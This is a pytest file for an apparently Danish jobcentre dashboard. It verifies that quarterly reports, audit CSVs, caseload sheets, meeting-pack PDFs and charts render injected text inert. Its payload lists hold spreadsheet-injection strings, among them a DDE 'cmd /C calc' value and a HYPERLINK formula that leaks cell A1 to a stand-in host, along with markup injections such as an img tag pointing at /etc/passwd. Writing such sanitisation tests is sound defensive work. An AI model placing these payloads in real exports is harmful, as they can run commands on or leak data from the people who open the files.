"""Outputs that cannot carry code: formula and markup payloads put into every source field that
reaches an export, then every export read back — the funder's quarterly XLSX, CSVs, PDF and JSON,
the audit CSV, the caseload sheet, the meeting pack and talk PDFs, and the dashboard's charts
(as figure JSON, and once in a real browser)."""

from __future__ import annotations

import csv
import io
import os
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from api.tokens import create_token
from core import audit
from core.outputs import append_row, chart_text, csv_cell, csv_row, pdf_text
from dashboard import ids
from dashboard.agreements import add_agreement
from ingest.organisation import TeamIn, WorkerIn, put_team, put_worker
from metrics.calendar import month_of
from metrics.programme_service import ProgrammeService
from tests.conftest import bearer
from tests.dashboard.conftest import fill_jobcentre
from tests.dashboard.test_accounts import callback_body, sign_in

FORMULAS = ["=1+1", '=HYPERLINK("https://x.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
MARKUP = ['<img src="/etc/passwd" width="10" height="10"/>', '<a href="https://x.example">x</a>', "<b>bold</b>",
          '<font color="red" size="30">big</font>', "<para>p</para>", "&lt;lt&gt; &amp; &#60;", "line<br>break",
          "<br/>", '<link href="https://x.example">l</link>', "ctrl\x07\x1b\x0bchars", "<span style='x'>s</span>"]
PAYLOADS = FORMULAS + MARKUP
LEADS = set("=+-@\t\r\n＝＋－＠﹢﹣﹫")
TEXT_KEYS = {"name", "x", "y", "text", "hovertext", "labels", "label", "ticktext"}


def _formula_like(text: str) -> bool:
    return text[:1] in LEADS or text.lstrip(" \u00a0")[:1] in LEADS


def assert_workbook_inert(book) -> int:
    """No formula cell; every text a spreadsheet could read as a formula is marked as text."""
    checked = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    checked += 1
                    assert not _formula_like(cell.value) or cell.quotePrefix, (sheet.title, cell.value)
                    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell.value)
    return checked


def assert_csv_inert(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not _formula_like(cell), cell
    return rows


def assert_pdf_inert(content: bytes) -> str:
    """No link annotation, no image; the text as pypdf reads it."""
    reader = PdfReader(io.BytesIO(content))
    for page in reader.pages:
        assert "/Annots" not in page, "a link or other annotation from data"
        xobjects = page.get("/Resources", {}).get("/XObject", {}) or {}
        for name in xobjects:
            assert xobjects[name].get_object().get("/Subtype") != "/Image", "an image from data"
    return "\n".join(page.extract_text() for page in reader.pages)


def _flat(text: str) -> str:
    return re.sub(r"\s+", "", text)


def assert_figure_plain(figure: dict) -> int:
    """Every text Plotly would draw through its HTML subset holds no markup from data."""
    found = 0

    def walk(value, key=None):
        nonlocal found
        if isinstance(value, dict):
            for k, v in value.items():
                walk(v, k if k in TEXT_KEYS or (k == "text" and key is not None) else None)
        elif isinstance(value, list):
            for v in value:
                walk(v, key)
        elif isinstance(value, str) and key is not None:
            found += 1
            assert "<" not in value and ">" not in value, (key, value)
            assert not re.search(r"&(?!amp;|lt;|gt;)", value), (key, value)

    walk(figure)
    return found


# -- the encoders ----------------------------------------------------------------------------

def test_each_encoder_neutralises_every_payload(tmp_path):
    for payload in FORMULAS:
        assert str(csv_cell(payload)).startswith("'"), payload
    assert csv_row([3, -2.5, None, "plain", "-2+3"]) == [3, -2.5, "", "plain", "'-2+3"]
    book = Workbook()
    append_row(book.active, [*PAYLOADS, 7, -3, 1.5])
    book.save(tmp_path / "x.xlsx")
    read = load_workbook(tmp_path / "x.xlsx")
    assert assert_workbook_inert(read) == len(PAYLOADS)
    values = [c.value for c in read.active[1]]
    assert values[0] == "=1+1" and values[-3:] == [7, -3, 1.5]  # the text as written; numbers stay numbers
    for payload in MARKUP:
        assert "<" not in pdf_text(payload) and "<" not in chart_text(payload)
    assert pdf_text("a<b>&lt;\nc\x07") == "a&lt;b&gt;&amp;lt; c"
    assert chart_text(5) == 5 and chart_text("<br>") == "&lt;br&gt;"


# -- the funder's quarterly report -----------------------------------------------------------

def _poisoned_cases() -> list[dict]:
    events = []
    start = datetime(2026, 1, 6, 9, tzinfo=UTC)
    for i, payload in enumerate(PAYLOADS):
        for j in range(2):
            at = start + timedelta(days=i + j)
            case = f"q{i}-{j}"
            events.append({"event_id": f"{case}-o", "type": "case_opened", "case_id": case,
                           "occurred_at": at.isoformat(), "citizen": f"{3300000000 + 2 * i + j}",
                           "team_id": payload, "programme": "mestring", "channel": payload})
            events.append({"event_id": f"{case}-e", "type": "enrolled", "case_id": case,
                           "occurred_at": (at + timedelta(days=1)).isoformat()})
    return events


def test_quarterly_report_json_csv_xlsx_and_pdf_carry_no_formula_or_markup(client, services, admin_token,
                                                                           tmp_path):
    admin = bearer(admin_token)
    summary = client.post("/api/v1/events", json=_poisoned_cases(), headers=admin).json()
    assert summary["rejected"] == 0, summary["errors"][:2]
    model = client.get("/api/v1/programmes/mestring", headers=admin).json()
    for phase, payload in zip(model["phases"], MARKUP, strict=False):
        phase["names"] = {"da": payload, "en": payload, "de": payload}
    model["names"] = {"da": MARKUP[0], "en": MARKUP[0], "de": MARKUP[0]}
    assert client.put("/api/v1/programmes/mestring", json=model, headers=admin).status_code == 200
    manager = bearer(create_token(services.engine, "manager"))
    answer = client.get("/api/v1/programmes/mestring/reports/quarterly/2026Q1", headers=manager)
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("application/json")
    teams = {r["team_id"] for r in answer.json()["tables"]["funnel"]}
    assert set(PAYLOADS) <= teams  # JSON carries the text as it is: it is data, not a document

    paths = ProgrammeService(services.engine, services.settings.zone).write_quarterly("mestring", "2026Q1", tmp_path)
    csvs = [p for p in paths if p.suffix == ".csv"]
    cells = [c for p in csvs for row in assert_csv_inert(p.read_text(encoding="utf-8")) for c in row]
    for payload in FORMULAS:  # each with the quote in front, otherwise as it was
        assert "'" + payload.replace("\r", "").replace("\x07", "") in cells or "'" + payload in cells, payload
    book = load_workbook(next(p for p in paths if p.suffix == ".xlsx"))
    assert assert_workbook_inert(book) > 2 * len(PAYLOADS)
    funnel_ids = [r[0].value for r in book["funnel"].iter_rows(min_row=2)]
    assert "=1+1" in funnel_ids and "@SUM(A1)" in funnel_ids
    text = _flat(assert_pdf_inert(next(p for p in paths if p.suffix == ".pdf").read_bytes()))
    for payload in ('<img src="/etc/passwd"', '<a href="https://x.example">x</a>', "<b>bold</b>",
                    "<para>p</para>", "&lt;lt&gt;"):
        assert _flat(payload) in text, payload


def test_quarterly_report_command_writes_inert_files(services, admin_token, client, tmp_path):
    from typer.testing import CliRunner

    from api.cli import app as cli

    admin = bearer(admin_token)
    assert client.post("/api/v1/events", json=_poisoned_cases(), headers=admin).json()["rejected"] == 0
    env = {"OVERBLIK_DATABASE_URL": services.settings.database_url,
           "OVERBLIK_PSEUDONYM_KEY": services.settings.pseudonym_key.get_secret_value(),
           "OVERBLIK_PSEUDONYM_KEY_FILE": str(services.settings.pseudonym_key_file)}
    result = CliRunner().invoke(cli, ["report", "quarterly", "--programme", "mestring", "--quarter", "2026Q1",
                                      "--out", str(tmp_path)], env=env)
    assert result.exit_code == 0, result.output
    written = [Path(line) for line in result.output.split() if line.endswith((".csv", ".xlsx", ".pdf"))]
    assert len(written) == 6
    for path in written:
        if path.suffix == ".csv":
            assert_csv_inert(path.read_text(encoding="utf-8"))
        elif path.suffix == ".xlsx":
            assert_workbook_inert(load_workbook(path))
        else:
            assert_pdf_inert(path.read_bytes())


# -- the audit CSV ---------------------------------------------------------------------------------

def test_audit_csv_cells_never_start_a_formula(client, services, admin_token):
    for payload in PAYLOADS:
        # the free-text columns (role, action and channel are the product's own codes)
        audit.record(services.engine, channel="api", actor=payload, role="admin", action="open_board",
                     worker_id=payload, team_id=payload, detail=payload, address=payload[:64])
    answer = client.get("/api/v1/audit.csv", headers=bearer(admin_token))
    assert answer.status_code == 200
    rows = assert_csv_inert(answer.text)
    assert len(rows) >= len(PAYLOADS) + 1
    assert "'=1+1" in [c for row in rows for c in row]


# -- the dashboard: caseload sheet, meeting pack, talk, charts --------------------------------------

@pytest.fixture
def poisoned_jobcentre(services):
    """A simulated jobcentre whose team, workers, notes, actions and an employer carry payloads."""
    jobcentre = fill_jobcentre(services, cases=60, months=2)
    engine = services.engine
    team = next(t for t in jobcentre.org.teams if t.team_id == jobcentre.team)
    put_team(engine, team.team_id, TeamIn(name='<a href="https://x.example">x</a>=1+1', unit=team.unit))
    other = next(t for t in jobcentre.org.teams if t.team_id == jobcentre.other_team)
    put_team(engine, other.team_id, TeamIn(name='<img src="/etc/passwd"/>', unit=other.unit))
    workers = [w for w in jobcentre.org.workers if w.team_id == jobcentre.team]
    names = ["=1+1", MARKUP[0], MARKUP[1], "@SUM(A1)", MARKUP[4], "＝1+1"]
    for worker, payload in zip(workers, names, strict=False):
        put_worker(engine, worker.worker_id, WorkerIn(name=payload.strip() or "x", team_id=worker.team_id,
                                                      roles=list(worker.roles)))
    month = month_of(datetime.now(UTC), services.settings.zone)
    for payload in PAYLOADS:
        add_agreement(engine, team_id=jobcentre.team, worker_id=None, month=month, kind="action", text=payload,
                      created_by="leder")
        add_agreement(engine, team_id=jobcentre.team, worker_id=jobcentre.worker, month=month, kind="note",
                      text=payload, created_by="leder")
    # an employer name from a source, on a case of the team's worker
    case = next(c["case_id"] for c in __import__("metrics.service", fromlist=["MetricsService"]).MetricsService(
        engine, services.settings.zone).board(jobcentre.worker)["cases"])
    services.store.append([{"event_id": "employer-payload", "type": "placement_started", "case_id": case,
                            "occurred_at": datetime.now(UTC).isoformat(), "placement_id": "pl-payload",
                            "employer": '=HYPERLINK("https://x.example","y")'}], origin="test")
    return jobcentre


@pytest.mark.slow
def test_meeting_pack_and_talk_pdfs_show_payloads_as_text(client, services, poisoned_jobcentre):
    jc = poisoned_jobcentre
    month = month_of(datetime.now(UTC), services.settings.zone)
    sign_in(client, "leder", jc.users["leder"])
    pack = client.get(f"/meeting-pack.pdf?team={jc.team}&month={month}")
    assert pack.status_code == 200 and pack.content.startswith(b"%PDF")
    text = _flat(assert_pdf_inert(pack.content))
    for payload in ('<a href="https://x.example">x</a>=1+1', '<img src="/etc/passwd" width="10" height="10"/>',
                    "<b>bold</b>", '<font color="red" size="30">big</font>', "<para>p</para>",
                    "&lt;lt&gt; &amp; &#60;", "line<br>break", "ctrlchars"):
        assert _flat(payload) in text, payload
    talk = client.get(f"/talk.pdf?worker={jc.worker}")
    assert talk.status_code == 200
    text = _flat(assert_pdf_inert(talk.content))
    assert _flat('<a href="https://x.example">x</a>') in text and _flat("<para>p</para>") in text


@pytest.mark.slow
def test_caseload_sheet_stores_every_text_as_text(client, services, poisoned_jobcentre):
    jc = poisoned_jobcentre
    sign_in(client, "leder", jc.users["leder"])
    answer = client.get(f"/caseload.xlsx?team={jc.team}")
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.content))
    assert assert_workbook_inert(book) > 0
    texts = [c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert '=HYPERLINK("https://x.example","y")' in texts


def _bench_figures(client, app, lang="da") -> list[dict]:
    body = callback_body(app, ids.BENCH_BODY, [
        {"id": ids.LIVE_VERSION, "property": "data", "value": "0:0"},
        {"id": ids.BENCH_FROM, "property": "value", "value": None},
        {"id": ids.BENCH_TO, "property": "value", "value": None},
        {"id": ids.BENCH_METRIC, "property": "value", "value": "active_cases"},
    ], [])
    answer = client.post("/_dash-update-component", json=body)
    assert answer.status_code == 200
    figures = []

    def walk(value):
        if isinstance(value, dict):
            if "figure" in value and isinstance(value["figure"], dict):
                figures.append(value["figure"])
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)

    walk(answer.json())
    return figures


@pytest.mark.slow
def test_chart_labels_legends_and_hover_texts_are_plain_text(app, client, services, poisoned_jobcentre):
    sign_in(client, "chef", poisoned_jobcentre.users["chef"])
    figures = _bench_figures(client, app)
    assert len(figures) >= 2
    escaped = [t for f in figures for t in map(str, f.get("data", [])) if "&lt;a href" in t]
    assert escaped, "the team name reaches the chart escaped"
    assert sum(assert_figure_plain(f) for f in figures) > 0
    # the team view's charts (trend, readiness, funnel, phases) go the same way
    from dashboard.components import charts, phases

    assert charts._graph is charts.graph and phases.graph is charts.graph


def test_every_writer_goes_through_an_encoder():
    """A new export that writes cells, paragraphs or figures without the encoders fails here."""
    root = Path(__file__).resolve().parents[2]
    allowed = {
        "csv.writer(": {"metrics/report_files.py"},
        "csv.DictWriter(": {"core/audit.py"},
        "Workbook(": {"metrics/report_files.py", "dashboard/sheet.py"},
        "dcc.Graph(": {"dashboard/components/charts.py"},
    }
    for folder in ("core", "metrics", "dashboard", "api", "ingest"):
        for path in (root / folder).rglob("*.py"):
            source = path.read_text(encoding="utf-8")
            relative = str(path.relative_to(root))
            for needle, places in allowed.items():
                if needle in source:
                    assert relative in places, f"{relative} writes with {needle} outside the encoders"
            if "Paragraph(" in source:
                for line in source.splitlines():
                    call = line.split("Paragraph(", 1)[1] if "Paragraph(" in line and "import" not in line else None
                    if call is None or line.lstrip().startswith(("#", "def ", "from ")):
                        continue
                    # the encoders, or a constant of the code (a plain string literal, no f-string)
                    assert call.startswith(("_escape(", "pdf_text(", '"', 'f"<b>{pdf_text(', '"<br/>".join(')), \
                        f"{relative}: {line.strip()}"
            if "writerow(" in source:
                for line in source.splitlines():
                    if "writerow(" in line and "writeheader" not in line:
                        assert "csv_row(" in line or "csv_cell(" in line, f"{relative}: {line.strip()}"


# -- one real browser: the benchmarking chart draws no link from data -----------------------------

CHROMIUM = "/usr/bin/chromium"


@pytest.mark.browser
@pytest.mark.skipif(not os.path.exists(CHROMIUM), reason="needs Debian's Chromium")
def test_benchmarking_chart_in_a_browser_shows_the_markup_as_text(tmp_path):
    import threading
    import time

    import uvicorn
    from playwright.sync_api import sync_playwright

    from api.app import create_app
    from core.database import dispose_engine
    from core.migrate import upgrade
    from core.settings import Settings
    from services.runtime import Services
    from tests.conftest import TEST_KEY
    from tests.dashboard.test_browser import CHROMIUM_ARGS, free_port

    settings = Settings(database_url=f"sqlite:///{tmp_path / 'overblik.db'}", pseudonym_key=TEST_KEY,
                        pseudonym_key_file=tmp_path / "pseudonym.key", scheduler=False)
    upgrade(settings.database_url)
    services = Services.from_settings(settings)
    jobcentre = fill_jobcentre(services, cases=60, months=2)
    team = next(t for t in jobcentre.org.teams if t.team_id == jobcentre.team)
    name = '<a href="https://x.example" id="from-data">link</a>'
    put_team(services.engine, team.team_id, TeamIn(name=name, unit=team.unit))
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(create_app(services=services, run_scheduler=False), host="127.0.0.1",
                                           port=port, log_level="warning", access_log=False))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            page = browser.new_page(locale="da-DK", viewport={"width": 1400, "height": 900})
            page.goto(f"http://127.0.0.1:{port}/")
            page.fill("#username", "chef")
            page.fill("#password", jobcentre.users["chef"])
            page.click("button[type=submit]")
            page.wait_for_url("**/benchmarking")
            page.locator(".js-plotly-plot .legendtext").first.wait_for(timeout=20_000)
            legend = page.locator(".js-plotly-plot .legendtext").all_inner_texts() + [
                page.locator(".js-plotly-plot .legendtext").first.text_content() or ""]
            assert page.locator(".js-plotly-plot a").count() == 0
            assert page.locator("#from-data").count() == 0
            shown = " ".join(page.locator(".js-plotly-plot text").all_text_contents())
            assert name in shown, shown[:500]
            browser.close()
    finally:
        server.should_exit = True
        thread.join(10)
        dispose_engine(settings.database_url)
    assert legend
